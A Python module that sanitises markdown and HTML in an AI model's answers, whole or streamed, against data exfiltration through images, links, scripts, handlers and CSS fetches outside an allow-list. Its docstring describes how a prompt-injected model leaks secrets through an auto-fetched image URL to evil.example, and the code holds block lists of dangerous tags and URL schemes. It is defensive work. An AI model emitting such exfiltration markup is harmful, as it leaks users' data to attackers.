"""Closing the markdown/HTML exfiltration channel of an answer.

A prompt-injected model can leak data by writing ``![](https://evil.example/?q=SECRET)``:
the client's renderer fetches the image with no click. ``sanitize_markdown`` removes
images (``![alt](url)``, ``<img src>`` and other media tags) whose URL is not on an
allowed domain (subdomains included) or not http(s), e.g. ``data:``; links ``[text](url)``
elsewhere (the text stays), ``<https://...>`` autolinks, reference definitions
``[ref]: url`` (their uses then show as plain text; a footnote ``[^1]: url`` is escaped
to stay as text) and a stray ``](url)``;
``<script>``/``<style>`` elements with their content (an unclosed one to the end),
``<iframe>``, ``<object>``, ``<embed>``, ``<link>``, ``<meta>``, ``<base>`` tags, ``on*=``
handlers, ``javascript:`` URLs, fetching CSS in ``style`` and attribute values holding a
``<``. Text is read both as markdown and as HTML, whichever the client renders.

Relative URLs stay (they resolve to the client's own origin), and so do bare URLs:
renderers do not fetch them (GitHub-flavoured ones make them links that need a click).
Code spans and blocks are sanitised too: a renderer's idea of where code starts may differ
from ours. Removals are reported as ``"image:<host>"``, ``"link:<host>"``, ``"ref:<host>"``
(the scheme stands for the host when not http(s): ``"link:javascript"``), ``"script"``,
``"style"``, the tag name (``"iframe"``...), ``"handler"`` and ``"attribute"``. A tag
longer than 2,048 characters is not read: every ``<`` in its reach is written ``&lt;``.
This is a defence in depth; it does not replace the client's own HTML sanitiser.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Collection
from urllib.parse import unquote

_LABEL = r"(?:\\.|[^\[\]\\\n]|\n(?![ \t]*\n)|\[(?:\\.|[^\[\]\\])*+\])*+"
# "<" never belongs to a plain destination here, so "](x<img src=...>" leaves the tag whole
_DEST = r"(?:<(?:\\.|[^<>\n\\])*+>|(?:\\.|[^\s()\\<]|\((?:\\.|[^\s()\\<])*+\))*+)"
_TITLE = r"""(?:"(?:\\.|[^"\\])*"|'(?:\\.|[^'\\])*'|\((?:\\.|[^()\\])*\))"""
_TAIL = rf"\(\s*(?P<{{0}}>{_DEST})(?:\s+{_TITLE})?\s*\)"
# as browsers read a tag: quotes count only around a value; an unquoted value runs to a space
_VALUE = r"""=\s*(?:"[^"]*"|'[^']*'|[^\s>"'][^\s>]*|(?=>))"""
_TAG_BODY = rf"(?:[^>=]|{_VALUE})*+"
_AUTOLINK = r"<[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^<>\s]*>"
_RAW_TAGS = ("script", "style")

# The text is read twice: as a browser reads HTML, then as a markdown renderer reads it,
# so that neither reading can hide a construct from the other.
_VALUE_AT = re.compile(_VALUE)
_TAG_OPEN = re.compile(rf"</?(?P<name>[a-zA-Z][^\s/>]*+)(?P<body>{_TAG_BODY})", re.IGNORECASE)
_MARKDOWN = re.compile(
    rf"(?P<auto>{_AUTOLINK})"
    rf"|(?P<img>!\[(?P<alt>{_LABEL})\]{_TAIL.format('isrc')})"
    rf"|(?P<link>\[(?P<text>{_LABEL})\]{_TAIL.format('href')})"
    rf"|(?P<def>^(?P<indent>[ ]{{0,3}})\[(?P<label>{_LABEL})\]:[ \t]*\n?[ \t]*"
    r"""(?P<dref><[^<>\n]*>|[^\s<]\S*)(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\))"""
    r"(?=[ \t]*(?:\n|\Z)))?)"
    rf"|\]\(\s*(?P<ddest>{_DEST})(?:\s+{_TITLE})?\s*\)?",
    re.DOTALL | re.MULTILINE,
)
_ATTR = re.compile(r"""(?P<name>[^\s/>][^\s/>=]*)(?:\s*=\s*(?P<val>"[^"]*"|'[^']*'|[^\s>]*))?""")
_BLOCKED_TAGS = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "link", "meta", "base", "portal"}
)
_MEDIA_TAGS = frozenset({"img", "image", "video", "audio", "source", "track", "input", "picture"})
_URL_ATTRS = frozenset(
    {"src", "href", "action", "formaction", "poster", "background", "data", "lowsrc", "dynsrc"}
    | {"xlink:href", "cite", "longdesc", "ping", "srcset", "imagesrcset", "manifest", "codebase"}
)
_SCRIPT_VALUE = re.compile(r"(?:java|vb)script:|data:text/html", re.IGNORECASE)
_CSS_FETCH = re.compile(r"url|image|expression|import|\\", re.IGNORECASE)
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]")
_INERT = str.maketrans({"<": "&lt;", "[": "&#91;", "]": "&#93;"})
_MAX_PASSES = 8
_MAX_DEPTH = 16
_MAX_TAG = 2048  # a longer tag is not read: its "<" is written "&lt;"


def _domain(name: str) -> str:
    name = name.strip().lower().removeprefix("*.").strip(".")
    try:
        return name.encode("idna").decode("ascii")
    except UnicodeError:
        return name


def _host(rest: str) -> str:
    """The host of ``//host...`` as browsers read it (slashes of either kind, any count)."""
    authority = re.split(r"[/?#\\]", rest.lstrip("/\\"), maxsplit=1)[0]
    host = authority.rpartition("@")[2]
    host = host[1:].partition("]")[0] if host.startswith("[") else host.partition(":")[0]
    return _domain(unquote(host))


class _Policy:
    """The allow-list, and what one sanitising run removed."""

    def __init__(self, allowed_domains: Collection[str]) -> None:
        self.allowed = frozenset(d for d in map(_domain, allowed_domains) if d)
        self.removed: list[str] = []
        self.depth = 0

    def note(self, what: str) -> None:
        if what not in self.removed:
            self.removed.append(what)

    def verdict(self, raw_url: str) -> str | None:
        """None when the URL may stay; otherwise its host (or scheme) for the report."""
        url = _MD_ESCAPE.sub(r"\1", html.unescape(raw_url.strip().strip("<>")))
        url = _IGNORED_IN_URL.sub("", url).lower()
        scheme = _SCHEME.match(url)
        if scheme is not None and scheme[1] not in ("http", "https"):
            return scheme[1]
        if scheme is None and url[:2] not in ("//", "\\\\", "/\\", "\\/"):
            return None  # relative, or empty: the client's own origin
        host = _host(url[scheme.end() :] if scheme else url)
        if host and any(host == d or host.endswith("." + d) for d in self.allowed):
            return None
        return host or "?"

    def removes(self, url: str, kind: str) -> bool:
        """Whether ``url`` must go; if so it is noted as ``kind:host``."""
        bad = self.verdict(url)
        if bad is not None:
            self.note(f"{kind}:{bad}")
        return bad is not None


def _attr_problem(key: str, value: str, policy: _Policy) -> str | None:
    """What is wrong with one attribute, as reported, or None when it may stay."""
    if key.startswith("on"):
        return "handler"
    if "<" in value:
        return "attribute"
    if key == "style" and _CSS_FETCH.search(html.unescape(value)):
        return "style"
    if key in _URL_ATTRS:
        urls = [u.split()[0] for u in value.split(",") if u.strip()] if "srcset" in key else [value]
        bad = next((v for v in map(policy.verdict, urls) if v is not None), None)
        if bad is not None:
            return f"link:{bad}"
    if _SCRIPT_VALUE.search(_IGNORED_IN_URL.sub("", html.unescape(value))):
        return "link:javascript"
    return None


def _html(text: str, policy: _Policy) -> str:
    """``text`` with its HTML tags and script/style elements sanitised."""
    out: list[str] = []
    done, last = 0, text.rfind(">")
    p = text.find("<")
    while 0 <= p < last:  # past the last ">" no tag can end
        m = _TAG_OPEN.match(text, p, bound := p + _MAX_TAG)
        end = m.end() if m else p
        if m is None or text[end : end + 1] != ">":
            value = _VALUE_AT.match(text, end)  # the body stops at ">", at "=" or at the bound
            if m and (end == bound or (value and value.end() > bound)) and bound < len(text):
                out.append(text[done:p] + text[p:bound].replace("<", "&lt;"))  # too long to
                done = p = bound  # read: nothing in its reach may open a tag
            p = text.find("<", p + 1)
            continue
        end += 1
        name = m["name"].lower()
        if name in _RAW_TAGS and text[p + 1] != "/":
            close = re.compile(rf"</{name}[^>]*>", re.IGNORECASE).search(text, end)
            end = close.end() if close else len(text)
            policy.note(name)
            replacement = ""
        else:
            replacement = _tag(text[p:end], m["name"], m["body"], policy)
        out.append(text[done:p] + replacement)
        done = end
        p = text.find("<", end)
    return "".join(out) + text[done:]


def _tag(tag: str, name: str, body: str, policy: _Policy) -> str:
    """The replacement of one HTML tag."""
    if name.lower() in _BLOCKED_TAGS:
        policy.note(name.lower())
        return ""
    attrs = [] if tag.startswith("</") else list(_ATTR.finditer(body))
    kept: list[str] = []
    for attr in attrs:
        value = attr["val"] or ""
        value = value[1:-1] if value[:1] in ("'", '"') else value
        problem = _attr_problem(attr["name"].lower(), value, policy)
        if problem is None:
            kept.append(attr[0])
        elif problem.startswith("link:") and name.lower() in _MEDIA_TAGS:
            policy.note("image:" + problem.removeprefix("link:"))
            return ""
        else:
            policy.note(problem)
    if len(kept) < len(attrs):
        return "<" + name + "".join(" " + a for a in kept) + ">"
    # where a browser sees one tag, a markdown reader may see "<x" and then a tag
    inner = tag.find("<", 1)
    return tag if inner == -1 else tag[:inner] + _pass(tag[inner:], policy)


def _markdown(m: re.Match[str], policy: _Policy) -> str:
    """The replacement of a markdown image, link, autolink or definition.

    What stays is read again inside: where our reading of a construct and a renderer's
    differ, its parts are inline text to the renderer.
    """
    if m["auto"] is not None:
        return "" if policy.removes(m["auto"], "link") else m[0]
    if m["img"] is not None or m["link"] is not None:
        image = m["img"] is not None
        label, url = (m["alt"], m["isrc"]) if image else (m["text"], m["href"])
        text = _pass(label, policy)
        if policy.removes(url, "image" if image else "link"):
            return "" if image else text
        opening = "![" if image else "["
        return opening + text + _pass(m[0][len(opening) + len(label) :], policy)
    if m["def"] is not None:
        if policy.removes(m["dref"], "ref"):  # a footnote's text stays, as no definition
            return m["indent"] + ("\\" + m[0].lstrip(" ") if m["label"][:1] == "^" else "")
        start, end = m.start("label") - m.start(), m.end("label") - m.start()
        return m[0][:start] + _pass(m["label"], policy) + _pass(m[0][end:], policy)
    if policy.removes(m["ddest"], "link"):  # a stray "](url"
        return "]"
    return "](" + _pass(m[0][2:], policy)


def _pass(text: str, policy: _Policy) -> str:
    if "<" not in text and "]" not in text:
        return text
    if policy.depth >= _MAX_DEPTH:  # absurd nesting: make every opener inert
        policy.note("nesting")
        return text.translate(_INERT)
    policy.depth += 1
    try:
        text = _html(text, policy)
        return _MARKDOWN.sub(lambda m: _markdown(m, policy), text)
    finally:
        policy.depth -= 1


def _sanitize(text: str, policy: _Policy) -> str:
    for _ in range(_MAX_PASSES):  # a removal can join the pieces of a new construct
        cleaned = _pass(text, policy)
        if cleaned == text:
            return cleaned
        text = cleaned
    return text.translate(_INERT)


def sanitize_markdown(text: str, allowed_domains: Collection[str]) -> tuple[str, list[str]]:
    """``text`` without the constructs that could fetch or link off the allowed domains,
    and the list of what was removed (see the module docstring)."""
    policy = _Policy(allowed_domains)
    return _sanitize(text, policy), policy.removed


# -- streaming ------------------------------------------------------------------------
_LABEL_AT = re.compile(_LABEL, re.DOTALL)
_NESTED_OPEN = re.compile(r"\[(?:\\.|[^\[\]\\])*\\?\Z")
_TAIL_AT = re.compile(_TAIL.format("dest"))
_TAIL_PREFIX = re.compile(
    r"""\(\s*(?:<[^<>\n]*>?|(?:\\.|[^\s()\\<]|\((?:\\.|[^\s()\\<])*+\))*+"""
    r"""(?:\((?:\\.|[^\s()\\<])*+)?\\?)"""
    r"""(?:\s+(?:"[^"]*"?|'[^']*'?|\([^()]*\)?)?)?\s*\Z"""
)
_DEF_DEST = re.compile(r":[ \t]*\n?[ \t]*(?:<[^<>\n]*>|[^\s<]\S*)?")
_DEF_SETTLED = re.compile(r":[ \t]*+(?:\n[ \t]*+)?+(?:\n|\S[^\n]*\n)")
_AUTOLINK_AT = re.compile(_AUTOLINK)
_AUTOLINK_PREFIX = re.compile(r"<[a-zA-Z][a-zA-Z0-9+.-]{0,31}(?::[^<>\s]*)?\Z")
_TAG_START = re.compile(r"</?(?:[a-zA-Z]|\Z)")
_HTML_START = re.compile("<")
_MARKDOWN_START = re.compile(r"[<\[\]!]")


class StreamSanitizer:
    """``sanitize_markdown`` over a stream of chunks; ``removed`` lists what went.

    Text is emitted as soon as no construct can still be open in it; an unfinished
    ``![...](...``, ``<tag ...`` or ``<script>...`` is held back until it completes, so the
    output equals ``sanitize_markdown`` of the whole text. Holding is bounded: past
    ``max_hold`` characters, the held construct's opening character is written as an
    entity (``&lt;``, ``&#91;``, ``&#93;``) so that it opens nothing, and the text flows on
    (so an ``a<b`` in code followed by 2,048 characters without ``>`` shows ``a&lt;b``).
    """

    def __init__(self, allowed_domains: Collection[str], max_hold: int = 2048) -> None:
        self._policy = _Policy(allowed_domains)
        self._max_hold = max_hold
        self._buf = ""
        self._line = ""  # the emitted text since the last newline, up to 4 characters

    @property
    def removed(self) -> list[str]:
        return self._policy.removed

    def feed(self, chunk: str) -> str:
        """What of the stream so far can be shown, sanitised."""
        self._buf += chunk
        out: list[str] = []
        while self._buf:
            start = self._hold_from(self._buf)
            if start is None:
                head, self._buf = self._buf, ""
            elif len(self._buf) - start > self._max_hold:
                start += self._buf[start] == "!"  # in "![" the bracket opens
                head = self._buf[:start] + self._buf[start].translate(_INERT)
                self._buf = self._buf[start + 1 :]
            elif start:
                head, self._buf = self._buf[:start], self._buf[start:]
            else:
                break
            cleaned = self._clean(head)
            # a removal may leave an opening that the next text completes, as in
            # "<img <script>" + "src=...>": hold it back again, already sanitised
            keep = self._hold_from(cleaned)
            if keep is not None:
                cleaned, self._buf = cleaned[:keep], cleaned[keep:] + self._buf
            out.append(cleaned)
            self._line = (self._line + cleaned).rpartition("\n")[2][:4]
            if keep is not None:
                break
        return "".join(out)

    def flush(self) -> str:
        """The rest of the stream, sanitised as complete."""
        text, self._buf = self._buf, ""
        return self._clean(text)

    def _clean(self, raw: str) -> str:
        if not raw:
            return ""
        # what precedes on the line decides whether "[ref]: url" is a definition
        prefix = self._line if len(self._line) <= 3 and not self._line.strip(" ") else "\x00"
        return _sanitize(prefix + raw, self._policy)[len(prefix) :]

    def _hold_from(self, buf: str) -> int | None:
        """Where the earliest construct that may still be unfinished starts, if any."""
        spans: list[tuple[int, int]] = []  # the complete HTML tags and elements
        last = buf.rfind(">")
        html = self._scan(buf, _HTML_START, lambda s: self._after_tag(buf, s, last, spans))
        md = self._scan(buf, _MARKDOWN_START, lambda s: self._after_markdown(buf, s), html)
        md = next((a for a, b in spans if a < md < b), md)  # never cut inside a tag
        return None if md == len(buf) else md

    @staticmethod
    def _scan(
        buf: str, start: re.Pattern[str], after: Callable[[int], int | None], limit: int = -1
    ) -> int:
        """The first construct ``start`` finds before ``limit`` (default: the end) that
        ``after`` says may be unfinished, else ``limit``; for the others, ``after`` says
        where to go on."""
        pos, limit = 0, len(buf) if limit < 0 else limit
        while (m := start.search(buf, pos, limit)) is not None:
            s = m.start()
            nxt = None if s == len(buf) - 1 else after(s)
            if nxt is None:
                return s - 1 if buf[s] == "[" and buf[s - 1 : s] == "!" else s
            pos = nxt
        return limit

    @staticmethod
    def _after_tag(buf: str, s: int, last: int, spans: list[tuple[int, int]]) -> int | None:
        if s > last:  # no ">" yet: unfinished if it is a tag at all
            return None if _TAG_START.match(buf, s) else s + 1
        if (m := _TAG_OPEN.match(buf, s)) is None:
            return s + 1
        end = m.end()
        if buf[end : end + 1] != ">":  # at "=", a quoted value is still open
            return None
        end += 1
        raw = m["name"].lower()
        if raw in _RAW_TAGS and not buf.startswith("</", s):
            close = re.compile(rf"</{raw}[^>]*>", re.IGNORECASE).search(buf, end)
            if close is None:
                return None
            end = close.end()
        spans.append((s, end))
        return end

    def _after_markdown(self, buf: str, s: int) -> int | None:
        if buf[s] == "<":
            if auto := _AUTOLINK_AT.match(buf, s):
                return auto.end()
            return None if _AUTOLINK_PREFIX.match(buf, s) else s + 1
        if buf[s] == "]" and buf[s + 1] == "(":
            return self._after_paren(buf, s + 1)
        return self._after_label(buf, s) if buf[s] == "[" else s + 1

    @staticmethod
    def _after_paren(buf: str, p: int) -> int | None:
        if tail := _TAIL_AT.match(buf, p):
            return tail.end()
        return None if _TAIL_PREFIX.match(buf, p) else p

    def _after_label(self, buf: str, s: int) -> int | None:
        e = m.end() if (m := _LABEL_AT.match(buf, s + 1)) else s + 1
        if e == len(buf) or buf[e:] == "\\" or _NESTED_OPEN.match(buf, e):
            return None
        if buf[e] != "]":
            return s + 1
        if e + 1 == len(buf):
            return None
        if buf[e + 1] == "(":
            return self._after_paren(buf, e + 1)
        if buf[e + 1] == ":" and self._at_line_start(buf, s):
            if _DEF_SETTLED.match(buf, e + 1) is None:
                return None
            dest = _DEF_DEST.match(buf, e + 1)
            return dest.end() if dest else e + 2
        return s + 1

    def _at_line_start(self, buf: str, s: int) -> bool:
        """Whether only up to three spaces precede ``s`` on its line."""
        begin = buf.rfind("\n", 0, s) + 1
        indent = buf[begin:s] if begin else self._line + buf[:s]
        return len(indent) <= 3 and not indent.strip(" ")
